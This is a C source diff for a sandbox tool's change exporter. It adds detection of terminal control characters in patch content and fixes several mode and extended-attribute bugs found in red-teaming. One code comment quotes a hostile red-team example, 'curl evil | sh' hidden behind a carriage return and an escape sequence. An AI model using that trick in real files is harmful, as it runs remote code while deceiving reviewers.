@@ -71,6 +71,7 @@ struct change {
 	int similarity;             /* rename: percent of content kept (100: same) */
 	char *xattrs;               /* user.* changes: a JSON object, or NULL */
 	int xattr_only;             /* content and mode the lower's: no patch entry */
+	int controls;               /* new text holds terminal controls (content_controls) */
 };
 
 struct refusal {
@@ -436,6 +437,45 @@ static void delete_tree(struct ctx *x, const struct gofer_srv_export *e, const c
 			const struct stat *lst);
 
 /* Record the new content of an upper entry (add or modify); 0 or refused. */
+/* Does a text the patch carries raw (no NUL in its first 8000 bytes: not a
+ * binary literal; a symlink's target) hold what a terminal acts on or
+ * shows as other than it is: C0 controls but tab, LF, FF and a CR before
+ * LF, DEL, C1 (U+0080-U+009F, or a raw byte 0x80-0x9f), the bidi
+ * controls? Then `cat changes.patch` or a pager shows another line than
+ * git apply writes: red-team round 64, an added line "curl evil | sh" +
+ * CR + ESC[2K + "echo done" showed as "echo done", and `moat diff` said
+ * "M setup.sh (file, 40 bytes)". Only flagged (the manifest's
+ * "controls", moat diff's "terminal controls"), never changed. */
+static int content_controls(const char *d, size_t n)
+{
+	const unsigned char *p = (const unsigned char *)d, *end = p + n;
+
+	if (memchr(d, 0, n < 8000 ? n : 8000))
+		return 0;       /* a binary literal in the patch: base85 */
+	while (p < end) {
+		if (*p < 0x80) {
+			if ((*p < 0x20 && *p != '\t' && *p != '\n' && *p != '\f' &&
+			     !(*p == '\r' && p + 1 < end && p[1] == '\n')) || *p == 0x7f)
+				return 1;
+			p++;
+			continue;
+		}
+		unsigned char u[5] = { 0 };
+		int l = 1;
+		memcpy(u, p, (size_t)(end - p) < 4 ? (size_t)(end - p) : 4);
+		long c = utf8_at(u, &l);
+		if (c < 0) {
+			if (*p < 0xa0)
+				return 1;   /* an 8-bit C1 */
+			l = 1;
+		} else if (unsafe_cp(c)) {
+			return 1;
+		}
+		p += l;
+	}
+	return 0;
+}
+
 static int take_new(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
 		    const struct stat *ust, struct change *c)
 {
@@ -454,6 +494,7 @@ static int take_new(struct ctx *x, const struct gofer_srv_export *e, const char 
 	c->bytes = n;
 	snprintf(c->xxh3, sizeof c->xxh3, "%016llx", (unsigned long long)XXH3_64bits(d, n));
 	hash_sha256(d, n, c->sha256);
+	c->controls = content_controls(d, n);
 	free(d);
 	return 0;
 }
@@ -578,8 +619,8 @@ static void json_str(FILE *f, const char *s);
 
 /* The user.* changes of rel (ust: its upper entry, lst: the lower one or
  * NULL) as a JSON object; NULL when there is none. */
-static char *xattr_changes(const struct gofer_srv_export *e, const char *rel,
-			   const struct stat *ust, const struct stat *lst)
+static char *xattr_changes_(const struct gofer_srv_export *e, const char *rel,
+			    const struct stat *ust, const struct stat *lst, int no_removed)
 {
 	struct xa_set u, l;
 	char *out = NULL, *uv = NULL, *lv = NULL;
@@ -613,7 +654,7 @@ static char *xattr_changes(const struct gofer_srv_export *e, const char *rel,
 		json_str(f, nm);
 		fprintf(f, ": \"%s\"", hex);
 	}
-	for (ssize_t i = 0; i < l.len; i += (ssize_t)strlen(l.names + i) + 1) {
+	for (ssize_t i = 0; i < l.len && !no_removed; i += (ssize_t)strlen(l.names + i) + 1) {
 		const char *nm = l.names + i;
 		if (!xa_user(nm) || xa_has(&u, nm))
 			continue;
@@ -639,6 +680,12 @@ out:
 	if (l.fd >= 0)
 		close(l.fd);
 	return out;
+}
+
+static char *xattr_changes(const struct gofer_srv_export *e, const char *rel,
+			   const struct stat *ust, const struct stat *lst)
+{
+	return xattr_changes_(e, rel, ust, lst, 0);
 }
 
 /* A non-directory of the upper layer at rel (lst: the lower entry or NULL). */
@@ -698,9 +745,16 @@ static void upper_file(struct ctx *x, const struct gofer_srv_export *e, const ch
 		free(a);
 		free(b);
 		char *xa = xattr_changes(e, rel, ust, lst);
-		int only = same && git_mode(lst->st_mode) == git_mode(ust->st_mode) &&
-			   (lst->st_mode & 07777) == (ust->st_mode & 07777);
-		if (only && !xa)
+		/* nothing a patch carries changed: the content and the git
+		 * mode (100644/100755) are the lower's. A chmod within one git
+		 * mode (0644 -> 0666, 0755 -> 0700) is then a manifest entry
+		 * only, as an attribute's change is: before red-team round 64
+		 * it wrote a `diff --git` header and an index line with nothing
+		 * after them, which git apply refuses ("patch with only garbage"),
+		 * the whole patch with it, so one guest chmod kept every other
+		 * change out */
+		int only = same && git_mode(lst->st_mode) == git_mode(ust->st_mode);
+		if (only && (lst->st_mode & 07777) == (ust->st_mode & 07777) && !xa)
 			return;         /* a copy-up only (utimes, chown, touch) */
 		if (!within_limits(x, e, rel, ust)) {
 			free(xa);
@@ -710,7 +764,7 @@ static void upper_file(struct ctx *x, const struct gofer_srv_export *e, const ch
 		c->old_mode = lst->st_mode;
 		c->new_mode = ust->st_mode;
 		c->xattrs = xa;
-		c->xattr_only = only;   /* an attribute's change only: in the manifest */
+		c->xattr_only = only;   /* an attribute's or a mode's change only: in the manifest */
 		if (take_new(x, e, rel, ust, c) < 0) {
 			free(xa);
 			x->nch--;
@@ -849,10 +903,18 @@ static void root_mode(struct ctx *x, const struct gofer_srv_export *e)
 {
 	struct stat ust, lst;
 
-	if (fstat(e->upperfd, &ust) < 0 || fstat(e->lowerfd, &lst) < 0 ||
-	    !((ust.st_mode ^ lst.st_mode) & 07777))
+	if (fstat(e->upperfd, &ust) < 0 || fstat(e->lowerfd, &lst) < 0)
+		return;
+	/* and the user.* attributes the guest set on it (before red-team
+	 * round 64 a setxattr on a cow bind's root was in neither file). Not
+	 * those of the lower root the upper one lacks: mount_cow gives it the
+	 * lower's mode and owner, not its attributes, so the guest never saw
+	 * them, and could neither remove them nor have them removed */
+	char *xa = xattr_changes_(e, "", &ust, &lst, 1);
+	if (!xa && !((ust.st_mode ^ lst.st_mode) & 07777))
 		return;
 	struct change *c = add_change(x, e, "", OP_MODIFY);
+	c->xattrs = xa;
 	size_t l = strlen(c->path);
 	if (l && c->path[l - 1] == '/')
 		c->path[l - 1] = 0;
@@ -1320,6 +1382,12 @@ static void patch_entry(struct ctx *x, FILE *f, struct change *c)
 		return;
 	if (c->op == OP_RENAME && c->similarity == 100) {
 		diff_header(f, c->from, c->path);
+		/* (an exact rename by content whose git mode changed: before
+		 * red-team round 64 the mode lines were left out, and git apply
+		 * kept the old mode, a 100755 file the manifest said 0644) */
+		if (git_mode(c->old_mode) != git_mode(c->new_mode))
+			fprintf(f, "old mode %06o\nnew mode %06o\n", git_mode(c->old_mode),
+				git_mode(c->new_mode));
 		fputs("similarity index 100%\n", f);
 		rename_lines(f, c->from, c->path);
 		return;
@@ -1537,10 +1605,19 @@ static int write_group(struct ctx *x, const char *name, const struct gofer_srv_e
 			if (!c->is_dir)
 				fprintf(mf, ", \"bytes\": %llu, \"xxh3\": \"%s\", \"sha256\": \"%s\"",
 					c->bytes, c->xxh3, c->sha256);
+			if (c->controls && !c->xattr_only)
+				fputs(", \"controls\": true", mf);
 			if (c->whole)
 				fputs(", \"hunk\": \"whole changed middle (line diff bound)\"", mf);
 			if (c->xattrs)
 				fprintf(mf, ", \"xattrs\": %s", c->xattrs);
+			/* a changed mode's old one, for moat diff to show (a patch
+			 * carries 100644/100755 only: red-team round 64, a chmod
+			 * 0666 of a host file was "M f" with no mode); last, after
+			 * the fields readers match in this order */
+			if ((c->op == OP_MODIFY || c->op == OP_RENAME) && c->old_mode &&
+			    ((c->old_mode ^ c->new_mode) & 07777))
+				fprintf(mf, ", \"old_mode\": \"%04o\"", (unsigned)(c->old_mode & 07777));
 		}
 		fputc('}', mf);
 	}
